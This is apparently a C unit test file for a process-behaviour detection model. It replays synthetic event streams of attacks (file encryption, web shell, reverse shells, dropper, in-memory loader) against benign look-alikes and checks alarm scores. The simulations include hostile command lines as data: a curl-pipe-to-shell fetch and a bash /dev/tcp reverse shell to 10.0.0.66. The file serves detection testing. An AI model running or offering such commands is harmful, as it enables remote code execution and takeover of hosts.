/* SPDX-License-Identifier: Apache-2.0 */
/* The built-in model on made-up streams: each attack clearly above its benign twin. */
#include "test.h"

#include "base/clock.h"
#include "base/hash.h"
#include "features/features.h"
#include "features/table.h"
#include "models/baseline.h"
#include "models/calibration.h"
#include "stream.h"

/* The highest score of any process since the last reset, at any event. */
struct bench {
    struct rv_features *features;
    struct rv_model *model;
    struct stream stream;
    int64_t worst_q16;
};

static void put(void *context, const struct rv_event *event)
{
    struct bench *bench = context;
    struct rv_features_change change;
    struct rv_vector vector;
    int64_t raw;

    rv_features_update(bench->features, event, &change);
    if (!change.process || change.due != RV_SCORE_DUE)
        return;
    rv_features_vector(bench->features, change.process, &vector);
    raw = rv_model_score_q16(bench->model, &vector);
    if (raw > bench->worst_q16)
        bench->worst_q16 = raw;
}

static struct bench *bench_new(void)
{
    struct bench *bench = calloc(1, sizeof(*bench));
    struct rv_features_options options = { .unix_offset_ns = (int64_t)1700000000 * 1000000000 };

    rv_assert_ok(rv_features_new(&bench->features, &options));
    rv_assert_ok(rv_baseline_new(&bench->model));
    stream_init(&bench->stream, put, bench);
    stream_exec(&bench->stream, 1, "/usr/lib/systemd/systemd", "init");
    stream_spawn(&bench->stream, 1, 2, "/usr/sbin/sshd", "sshd -D");
    stream_spawn(&bench->stream, 2, 3, "/bin/bash", "-bash");
    stream_spawn(&bench->stream, 1, 4, "/usr/sbin/nginx", "nginx");
    stream_socket(&bench->stream, 4, RV_EVENT_NET_LISTEN, "0.0.0.0", 80);
    stream_spawn(&bench->stream, 1, 5, "/usr/sbin/php-fpm8.2", "php-fpm");
    bench->worst_q16 = 0;
    return bench;
}

static void bench_free(struct bench **bench)
{
    rv_features_free(&(*bench)->features);
    rv_model_free(&(*bench)->model);
    free(*bench);
}
#define BENCH RV_AUTO(bench_free) struct bench *

typedef void play(struct stream *stream);

static void encrypt_in_place(struct stream *stream)
{
    char from[64], to[96];

    stream_spawn(stream, 3, 100, "/usr/bin/python3.11", "python3 job.py");
    for (int i = 0; i < 60; i++) {
        snprintf(from, sizeof(from), "/home/u/docs/d%d/%d.odt", i % 4, i);
        snprintf(to, sizeof(to), "%s.locked", from);
        stream_open(stream, 100, from, RV_ACCESS_WRITE);
        stream_rename(stream, 100, from, to);
    }
}

static void encrypt_to_copies(struct stream *stream)
{
    char from[64], to[96];

    stream_spawn(stream, 3, 100, "/usr/bin/openssl-run", "run");
    for (int i = 0; i < 60; i++) {
        snprintf(from, sizeof(from), "/home/u/docs/d%d/%d.odt", i % 4, i);
        snprintf(to, sizeof(to), "/home/u/docs/d%d/%d.crypted", i % 4, i);
        stream_open(stream, 100, to, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
        stream_unlink(stream, 100, from);
    }
}

static void compress_folder(struct stream *stream)
{
    char from[64], to[96];

    stream_spawn(stream, 3, 100, "/usr/bin/gzip", "gzip -r docs");
    for (int i = 0; i < 60; i++) {
        snprintf(from, sizeof(from), "/home/u/docs/d%d/%d.odt", i % 4, i);
        snprintf(to, sizeof(to), "%s.gz", from);
        stream_open(stream, 100, to, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
        stream_unlink(stream, 100, from);
    }
}

static void pack_folder(struct stream *stream)
{
    stream_spawn(stream, 3, 100, "/usr/bin/tar", "tar czf docs.tar.gz docs");
    stream_open(stream, 100, "/home/u/docs.tar.gz", RV_ACCESS_WRITE | RV_ACCESS_CREATE);
    stream_spawn(stream, 100, 101, "/usr/bin/gzip", "gzip");
}

static void unpack_sources(struct stream *stream)
{
    char path[64];

    stream_spawn(stream, 3, 100, "/usr/bin/tar", "tar xf linux.tar.xz");
    for (int i = 0; i < 500; i++) {
        snprintf(path, sizeof(path), "/home/u/src/linux/d%d/%d.c", i % 40, i);
        stream_open(stream, 100, path, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
    }
}

static void web_shell(struct stream *stream)
{
    stream_spawn(stream, 5, 100, "/bin/dash", "sh -c id;uname -a;curl http://10.0.0.66/x|sh");
    stream_spawn(stream, 100, 101, "/usr/bin/id", "id");
    stream_spawn(stream, 100, 102, "/usr/bin/uname", "uname -a");
    stream_spawn(stream, 100, 103, "/usr/bin/curl", "curl http://10.0.0.66/x");
}

static void web_worker(struct stream *stream)
{
    char path[64];

    stream_spawn(stream, 5, 100, "/usr/sbin/php-fpm8.2", "php-fpm");
    for (int i = 0; i < 20; i++) {
        stream_socket(stream, 100, RV_EVENT_NET_ACCEPT, "10.0.0.9", 4000);
        stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "127.0.0.1", 5432);
        snprintf(path, sizeof(path), "/var/lib/php/sessions/sess_%d", i);
        stream_open(stream, 100, path, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
    }
}

static void reverse_shell(struct stream *stream)
{
    stream_spawn(stream, 3, 100, "/bin/bash", "bash -c bash>&/dev/tcp/10.0.0.66/443<&1");
    stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "10.0.0.66", 443);
    stream_spawn(stream, 100, 101, "/bin/bash", "bash -i");
}

static void python_reverse_shell(struct stream *stream)
{
    stream_spawn(stream, 3, 100, "/usr/bin/python3.11", "python3 -c import/socket,subprocess");
    stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "10.0.0.66", 443);
    stream_spawn(stream, 100, 101, "/bin/dash", "/bin/sh -i");
}

static void python_that_runs_commands(struct stream *stream)
{
    stream_spawn(stream, 3, 100, "/usr/bin/python3.11", "python3 deploy.py");
    stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "10.0.0.66", 443);
    stream_spawn(stream, 100, 101, "/bin/dash", "sh -c git status --short | wc -l");
    stream_spawn(stream, 101, 102, "/usr/bin/git", "git status --short");
    stream_spawn(stream, 101, 103, "/usr/bin/wc", "wc -l");
}

static void remote_login(struct stream *stream)
{
    stream_socket(stream, 2, RV_EVENT_NET_ACCEPT, "10.0.0.9", 50000);
    stream_spawn(stream, 2, 100, "/bin/bash", "-bash");
    stream_spawn(stream, 100, 101, "/usr/bin/id", "id");
    stream_spawn(stream, 100, 102, "/usr/bin/uname", "uname -a");
    stream_spawn(stream, 100, 103, "/usr/bin/curl", "curl https://mirror.example/");
    stream_socket(stream, 103, RV_EVENT_NET_CONNECT, "151.101.2.132", 443);
}

static void dropper(struct stream *stream)
{
    stream_spawn(stream, 3, 100, "/tmp/.x/kworker", "kworker");
    stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "10.0.0.66", 4444);
}

static void memory_loader(struct stream *stream)
{
    stream_fork(stream, 3, 100);
    stream_exec_flags(stream, 100, "/memfd:a", "a", RV_EXEC_F_MEMFD);
    stream_plain(stream, 100, RV_EVENT_MEMORY_EXEC);
    stream_socket(stream, 100, RV_EVENT_NET_CONNECT, "10.0.0.66", 4444);
}

static void build(struct stream *stream)
{
    char path[64];

    stream_spawn(stream, 3, 100, "/usr/bin/make", "make -j2");
    for (uint32_t i = 0; i < 40; i++) {
        stream_spawn(stream, 100, 200 + 3 * i, "/bin/dash", "sh -c gcc");
        stream_spawn(stream, 200 + 3 * i, 201 + 3 * i, "/usr/bin/gcc-12", "gcc -c -o a.o a.c");
        stream_spawn(stream, 201 + 3 * i, 202 + 3 * i, "/usr/lib/gcc/cc1", "cc1 -quiet a.c");
        snprintf(path, sizeof(path), "/tmp/cc%dXyz.s", (int)i);
        stream_open(stream, 202 + 3 * i, path, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
        snprintf(path, sizeof(path), "/home/u/src/%d.o", (int)i);
        stream_open(stream, 201 + 3 * i, path, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
        stream_exit(stream, 202 + 3 * i);
        stream_exit(stream, 201 + 3 * i);
        stream_exit(stream, 200 + 3 * i);
    }
}

static void install(struct stream *stream)
{
    char path[64], temporary[80];

    stream_spawn(stream, 3, 99, "/usr/bin/apt-get", "apt-get install nginx");
    stream_socket(stream, 99, RV_EVENT_NET_CONNECT, "151.101.2.132", 80);
    stream_spawn(stream, 99, 100, "/usr/bin/dpkg", "dpkg --unpack nginx.deb");
    for (int i = 0; i < 200; i++) {
        snprintf(path, sizeof(path), "/usr/share/nginx/%d.html", i);
        snprintf(temporary, sizeof(temporary), "%s.dpkg-new", path);
        stream_open(stream, 100, temporary, RV_ACCESS_WRITE | RV_ACCESS_CREATE);
        stream_rename(stream, 100, temporary, path);
    }
    stream_open(stream, 100, "/etc/cron.d/nginx", RV_ACCESS_WRITE | RV_ACCESS_CREATE);
    stream_spawn(stream, 100, 101, "/bin/dash", "sh /var/lib/dpkg/info/nginx.postinst configure");
    stream_spawn(stream, 101, 102, "/usr/bin/systemctl", "systemctl enable nginx");
    stream_open(stream, 102, "/etc/systemd/system/x.service", RV_ACCESS_WRITE | RV_ACCESS_CREATE);
}

static int64_t worst(play *what)
{
    BENCH bench = bench_new();

    what(&bench->stream);
    return bench->worst_q16;
}

static void attacks_score_above_their_twins_on_a_fresh_host(void **state)
{
    static const struct {
        const char *name;
        play *attack, *twin;
    } cases[] = {
        { "encryption in place, gzip -r", encrypt_in_place, compress_folder },
        { "encryption to copies, gzip -r", encrypt_to_copies, compress_folder },
        { "encryption in place, tar", encrypt_in_place, pack_folder },
        { "encryption to copies, unpacking", encrypt_to_copies, unpack_sources },
        { "web shell, web worker", web_shell, web_worker },
        { "web shell, remote login", web_shell, remote_login },
        { "reverse shell, remote login", reverse_shell, remote_login },
        { "python reverse shell, python", python_reverse_shell, python_that_runs_commands },
        { "dropper, build", dropper, build },
        { "memory loader, installation", memory_loader, install },
    };
    struct rv_calibration *calibration = NULL;

    rv_assert_ok(rv_calibration_new_baseline(&calibration));
    for (size_t i = 0; i < RV_COUNT(cases); i++) {
        int64_t attack = worst(cases[i].attack), twin = worst(cases[i].twin);
        uint32_t attack_risk = rv_calibration_risk(calibration, 0, attack);
        uint32_t twin_risk = rv_calibration_risk(calibration, 0, twin);

        print_message("# %s: %.2f (risk %u) against %.2f (risk %u)\n", cases[i].name,
                      (double)attack / 65536, attack_risk, (double)twin / 65536, twin_risk);
        if (attack < rv_baseline_alarm_q16() || attack_risk < 300)
            fail_msg("%s: the attack is not an alarm", cases[i].name);
        if (twin > rv_baseline_alarm_q16() * 2 / 3 || twin_risk >= 300)
            fail_msg("%s: the twin alarms", cases[i].name);
    }
    rv_calibration_free(&calibration);
}

/* Padding: after every event of the attack, harmless ones by the same process. */
struct padding {
    struct bench *bench;
    unsigned before_each;
    bool busy;
};

static void put_padded(void *context, const struct rv_event *event)
{
    struct padding *padding = context;
    uint32_t pid = event->tgid;
    char path[64];

    put(padding->bench, event);
    if (padding->busy || pid < 100)
        return;
    padding->busy = true;
    for (unsigned i = 0; i < padding->before_each; i++) {
        snprintf(path, sizeof(path), "/home/u/.cache/x/%u", i % 3);
        stream_open(&padding->bench->stream, pid, path, RV_ACCESS_WRITE | RV_ACCESS_APPEND);
    }
    padding->busy = false;
}

/* What an attack does can be hidden among other things only where the table says "dilute". */
static void padding_hides_no_attack(void **state)
{
    static play *const attacks[] = { encrypt_in_place, encrypt_to_copies, web_shell,
                                     reverse_shell,    dropper,           memory_loader };

    for (size_t i = 0; i < RV_COUNT(attacks); i++) {
        for (unsigned ratio = 1; ratio <= 16; ratio *= 4) {
            BENCH bench = bench_new();
            struct padding padding = { bench, ratio, false };
            int64_t plain = worst(attacks[i]);

            bench->stream.put = put_padded;
            bench->stream.context = &padding;
            attacks[i](&bench->stream);
            if (bench->worst_q16 < plain - 65536 || bench->worst_q16 < rv_baseline_alarm_q16())
                fail_msg("attack %zu, %u to 1: %.2f instead of %.2f", i, ratio,
                         (double)bench->worst_q16 / 65536, (double)plain / 65536);
        }
    }
}

static int64_t health_check(struct bench *bench, uint32_t pid)
{
    bench->worst_q16 = 0;
    stream_spawn(&bench->stream, 5, pid, "/usr/bin/curl", "curl -s http://10.0.0.7/health");
    stream_socket(&bench->stream, pid, RV_EVENT_NET_CONNECT, "10.0.0.7", 80);
    return bench->worst_q16;
}

/* A web application that calls curl alarms on the first day. Alerted on, it is never learnt; once a
 * person has called it normal it is, and a web shell beside it still is not. */
static void what_a_person_calls_normal_stops_alarming(void **state)
{
    BENCH bench = bench_new();
    int64_t first = health_check(bench, 1000), later = first;

    assert_true(first >= rv_baseline_alarm_q16());
    for (uint32_t i = 1001; i < 1040; i++) {
        rv_features_taint(bench->features, rv_features_live(bench->features, i - 1));
        stream_exit(&bench->stream, i - 1);
        later = health_check(bench, i);
    }
    assert_true(later >= first - 65536);
    for (uint32_t i = 1040; i < 1080; i++) {
        rv_features_untaint(bench->features, rv_features_live(bench->features, i - 1));
        stream_exit(&bench->stream, i - 1);
        later = health_check(bench, i);
    }
    assert_true(later <= rv_baseline_alarm_q16() * 2 / 3);
    bench->worst_q16 = 0;
    web_shell(&bench->stream);
    assert_true(bench->worst_q16 >= rv_baseline_alarm_q16());
}

static void random_vector(struct rv_vector *vector, uint64_t seed)
{
    for (size_t i = 0; i < RV_FEATURE_COUNT; i++) {
        uint64_t x = rv_mix64(seed * 1000 + i);
        uint64_t max = (uint64_t)rv_feature_info(i)->max;

        /* Small values often, any value sometimes. */
        vector->value[i] = (int32_t)(x & 1   ? 0
                                     : x & 2 ? (x >> 8) % (max < 40 ? max + 1 : 40)
                                             : (x >> 8) % (max + 1));
    }
}

static void attributions_sum_to_the_score_exactly(void **state)
{
    struct rv_model *model = NULL;

    rv_assert_ok(rv_baseline_new(&model));
    for (uint64_t seed = 0; seed < 20000; seed++) {
        struct rv_vector vector;
        struct rv_verdict verdict;
        int64_t sum;

        random_vector(&vector, seed);
        rv_model_judge(model, &vector, RV_EXPLAIN, &verdict);
        sum = verdict.base_q16;
        for (size_t i = 0; i < RV_FEATURE_COUNT; i++)
            sum += verdict.attribution_q16[i];
        assert_int_equal(sum, verdict.raw_q16);
        assert_int_equal(verdict.raw_q16, rv_model_score_q16(model, &vector));
        assert_memory_equal(&verdict.model, &model->digest, sizeof(model->digest));
    }
    rv_model_free(&model);
}

/* No move that the rights allow leaves the bounds; without rights the bounds are the score. */
static void reach_bounds_every_move(void **state)
{
    struct rv_model *model = NULL;
    enum rv_reach_right rights[RV_FEATURE_COUNT];

    rv_assert_ok(rv_baseline_new(&model));
    for (uint64_t seed = 0; seed < 3000; seed++) {
        struct rv_vector vector, moved;
        int64_t min, max, raw;

        random_vector(&vector, seed);
        random_vector(&moved, seed + 1000000);
        for (size_t i = 0; i < RV_FEATURE_COUNT; i++) {
            rights[i] = (enum rv_reach_right)(rv_mix64(seed * 7 + i) & 3);
            if (rights[i] == RV_REACH_FIXED ||
                (rights[i] == RV_REACH_RAISE && moved.value[i] < vector.value[i]) ||
                (rights[i] == RV_REACH_LOWER && moved.value[i] > vector.value[i]))
                moved.value[i] = vector.value[i];
        }
        rv_baseline_reach(&vector, rights, &min, &max);
        raw = rv_model_score_q16(model, &moved);
        assert_true(raw >= min && raw <= max);
        for (size_t i = 0; i < RV_FEATURE_COUNT; i++)
            rights[i] = RV_REACH_FIXED;
        rv_baseline_reach(&vector, rights, &min, &max);
        raw = rv_model_score_q16(model, &vector);
        assert_int_equal(min, raw);
        assert_int_equal(max, raw);
    }
    rv_model_free(&model);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_score_above_their_twins_on_a_fresh_host),
        cmocka_unit_test(padding_hides_no_attack),
        cmocka_unit_test(what_a_person_calls_normal_stops_alarming),
        cmocka_unit_test(attributions_sum_to_the_score_exactly),
        cmocka_unit_test(reach_bounds_every_move),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
